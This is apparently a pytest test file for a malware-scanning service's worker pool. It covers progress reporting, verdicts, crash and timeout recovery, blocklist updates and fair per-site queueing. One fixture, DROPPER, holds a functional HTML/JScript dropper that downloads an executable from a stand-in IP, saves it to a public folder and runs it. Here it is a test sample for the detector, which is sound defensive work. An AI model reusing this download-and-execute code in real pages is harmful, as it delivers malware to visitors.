"""ScanPool with the real engine in real worker processes: progress, verdicts, recovery."""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import threading
import time

import pytest
from helpers.layers import CRASH_EXIT_CODE, ON_CUE

from malwaresnipper.engine.capture import Capture
from malwaresnipper.engine.config import EngineConfig, Layers
from malwaresnipper.engine.engine import Progress
from malwaresnipper.engine.lists import ListSnapshot
from malwaresnipper.engine.verdict import ThreatLevel
from malwaresnipper.server.scanner import ScanFailed, ScanPool, ScanTimeout, relay

DROPPER = """<html><body><script>
var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://198.51.100.7/payload.exe", false); x.send();
var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Type = 1; s.Write(x.responseBody);
s.SaveToFile("C:\\\\Users\\\\Public\\\\update.exe", 2); sh.Run("C:\\\\Users\\\\Public\\\\update.exe");
</script></body></html>"""
BENIGN = "<html><head><title>Recipes</title></head><body><p>Bake the bread for 40 minutes.</p></body></html>"

#: The default engine, ML layer included: what a user runs.
ENGINE_CONFIG = EngineConfig()


@pytest.fixture(scope="module")
def pool_loop():
    loop = asyncio.new_event_loop()
    pool = ScanPool(ENGINE_CONFIG, workers=1, timeout_s=20.0)
    yield pool, loop
    loop.run_until_complete(pool.close())
    loop.close()


def run(loop, coro):
    return loop.run_until_complete(coro)


def test_verdicts_and_progress_arrive_on_the_callers_loop(pool_loop):
    pool, loop = pool_loop
    seen: list[tuple[str, bool]] = []

    def progress(p):
        seen.append((p.layer, asyncio.get_running_loop() is loop))

    verdict = run(loop, pool.scan(Capture.build("https://recipes.example/", html=BENIGN), progress=progress))
    assert verdict.threat_level is ThreatLevel.BENIGN
    layers = ["url", "reputation", "javascript", "dom", "signatures", "ml"]
    delivered = [layer for layer, _ in seen]
    # in layer order, the last one always (updates overtaken in the pipe are folded: see relay)
    assert delivered and delivered[-1] == "ml" and delivered == [x for x in layers if x in delivered]
    assert all(on_loop for _, on_loop in seen)
    bad = run(loop, pool.scan(Capture.build("https://files.example/invoice.html", html=DROPPER)))
    assert bad.threat_level is ThreatLevel.MALICIOUS
    assert pool.queue_depth == 0


def _progress(job_id: int, layer: str, done: int) -> tuple:
    return ("progress", job_id, layer, done, 6, 10.0 * done)


def test_relay_folds_updates_a_later_message_overtook_and_keeps_the_last():
    """A quick scan's six layer updates are already in the pipe with its result: one update (the
    last layer's) reaches the loop, then the result; another job's stale messages are skipped."""
    parent, child = multiprocessing.Pipe()
    child.send(_progress(6, "ml", 6))  # an earlier job's leftovers
    child.send(("result", 6, {"old": True}))
    for done, layer in enumerate(["url", "reputation", "javascript", "dom", "signatures", "ml"], start=1):
        child.send(_progress(7, layer, done))
    child.send(("result", 7, {"risk_score": 1}))
    delivered: list[Progress] = []
    assert relay(parent, 7, delivered.append) == {"risk_score": 1}
    assert delivered == [Progress("ml", 6, 6, 60.0)]


def test_relay_delivers_each_update_that_nothing_has_overtaken_yet():
    """A slow scan's updates arrive one by one: each is delivered as it comes."""
    parent, child = multiprocessing.Pipe()
    delivered: list[Progress] = []
    outcome: list[dict] = []
    reader = threading.Thread(target=lambda: outcome.append(relay(parent, 3, delivered.append)))
    reader.start()
    for done, layer in enumerate(["url", "reputation"], start=1):
        child.send(_progress(3, layer, done))
        deadline = time.monotonic() + 10
        while len(delivered) < done and time.monotonic() < deadline:
            time.sleep(0.01)
    child.send(("result", 3, {"risk_score": 2}))
    reader.join(10)
    assert [p.layer for p in delivered] == ["url", "reputation"]
    assert outcome == [{"risk_score": 2}]


def test_a_killed_worker_is_replaced_and_the_next_scan_completes(pool_loop):
    pool, loop = pool_loop
    run(loop, pool.scan(Capture.build("https://a.example/", html=BENIGN)))
    old_pid = pool.worker_pids[0]
    os.kill(old_pid, 9)
    verdict = run(loop, pool.scan(Capture.build("https://b.example/", html=BENIGN)))
    assert verdict.threat_level is ThreatLevel.BENIGN
    assert pool.worker_pids and pool.worker_pids[0] != old_pid


@pytest.fixture(scope="module")
def on_cue_pool():
    """A pool whose engine runs the url layer and a layer that sleeps or crashes on cue."""
    loop = asyncio.new_event_loop()
    config = EngineConfig(layers=Layers(enabled=["url"]), extra_layers=(ON_CUE,))
    pool = ScanPool(config, workers=1, timeout_s=20.0)
    yield pool, loop
    loop.run_until_complete(pool.close())
    loop.close()


def test_a_scan_over_its_timeout_raises_and_the_pool_recovers(on_cue_pool):
    pool, loop = on_cue_pool
    warm = run(loop, pool.scan(Capture.build("https://warm.example/", html=BENIGN)))
    assert "on_cue" in [layer.layer for layer in warm.layers]  # the layer really runs in the worker
    old_pid = pool.worker_pids[0]
    pool.timeout_s = 0.5  # the layer sleeps a minute on this URL: the timeout strikes while it runs
    try:
        with pytest.raises(ScanTimeout) as timed_out:
            run(loop, pool.scan(Capture.build("https://slow.example/sleep", html=BENIGN)))
    finally:
        pool.timeout_s = 20.0
    assert timed_out.value.ran_s > 0  # it was running in the worker, not waiting in the queue
    verdict = run(loop, pool.scan(Capture.build("https://after.example/", html=BENIGN)))
    assert verdict.threat_level is ThreatLevel.BENIGN
    assert pool.worker_pids[0] != old_pid  # the stuck worker was killed, not left running
    assert pool.timeouts >= 1


def test_a_worker_crashing_mid_scan_fails_that_scan_and_the_pool_recovers(on_cue_pool):
    pool, loop = on_cue_pool
    run(loop, pool.scan(Capture.build("https://warm.example/", html=BENIGN)))
    old_pid = pool.worker_pids[0]
    with pytest.raises(ScanFailed, match=f"exit code {CRASH_EXIT_CODE}"):
        run(loop, pool.scan(Capture.build("https://boom.example/crash", html=BENIGN)))
    verdict = run(loop, pool.scan(Capture.build("https://after.example/", html=BENIGN)))
    assert verdict.threat_level is ThreatLevel.BENIGN
    assert pool.worker_pids and pool.worker_pids[0] != old_pid


def test_list_updates_reach_the_workers(pool_loop):
    pool, loop = pool_loop
    url = "https://totally-unlisted-host.example/landing"
    before = run(loop, pool.scan(Capture.build(url)))
    assert before.threat_level is not ThreatLevel.MALICIOUS
    pool.update_lists(ListSnapshot.from_strings([], ["totally-unlisted-host.example"], version=1))
    after = run(loop, pool.scan(Capture.build(url + "?again")))
    assert after.threat_level is ThreatLevel.MALICIOUS
    pool.update_lists(ListSnapshot(version=2))


# -- fairness ------------------------------------------------------------------------------------

def _job(site: str, n: int):
    from malwaresnipper.server.scanner import _Job

    return _Job(n, None, None, None, None, site=site)


def test_the_queue_serves_sites_in_turn_and_keeps_a_worker_from_a_busy_site():
    from malwaresnipper.server.scanner import _FairQueue

    queue = _FairQueue(per_site_running=1)
    for i in range(4):
        queue.put(_job("slow.example", i))
    queue.put(_job("phish.example", 10))
    first = queue.get()
    assert (first.site, first.job_id) == ("slow.example", 0)
    # slow.example already has its one worker: the other site's scan comes next, not slow #1
    second = queue.get()
    assert (second.site, second.job_id) == ("phish.example", 10)
    queue.done(first)
    queue.done(second)
    order = []
    for _ in range(3):
        job = queue.get()
        order.append(job.job_id)
        queue.done(job)
    assert order == [1, 2, 3]


def test_a_site_at_its_worker_limit_waits_and_close_wakes_every_waiter():
    import threading

    from malwaresnipper.server.scanner import _FairQueue

    queue = _FairQueue(per_site_running=1)
    queue.put(_job("a.example", 1))
    queue.put(_job("a.example", 2))
    running = queue.get()
    got: list = []
    waiter = threading.Thread(target=lambda: got.append(queue.get()))
    waiter.start()
    waiter.join(0.3)
    assert waiter.is_alive() and not got, "a.example's second scan must wait for its first"
    queue.done(running)
    waiter.join(5)
    assert got and got[0].job_id == 2
    stopper = threading.Thread(target=lambda: got.append(queue.get()))
    stopper.start()
    queue.stop_one()
    stopper.join(5)
    assert got[-1] is None


def test_a_busy_site_does_not_delay_another_sites_scan_behind_all_of_its_own(pool_loop):
    """Five slow scans of one site are queued before one scan of another site: with one worker,
    the other site's verdict comes after at most one of the slow ones (FIFO: after all five)."""
    pool, loop = pool_loop
    slow = "<html><body>" + "".join(f"<b id={i}>" for i in range(150_000)) + "</body></html>"

    async def scenario():
        finished: list[str] = []

        async def scan(url: str, html: str) -> None:
            await pool.scan(Capture.build(url, html=html))
            finished.append(url)

        tasks = [asyncio.create_task(scan(f"https://slow.example/{i}", slow)) for i in range(5)]
        await asyncio.sleep(0.05)
        tasks.append(asyncio.create_task(scan("https://phish.example/login", DROPPER)))
        await asyncio.gather(*tasks)
        return finished

    finished = run(loop, scenario())
    assert finished.index("https://phish.example/login") <= 2, finished
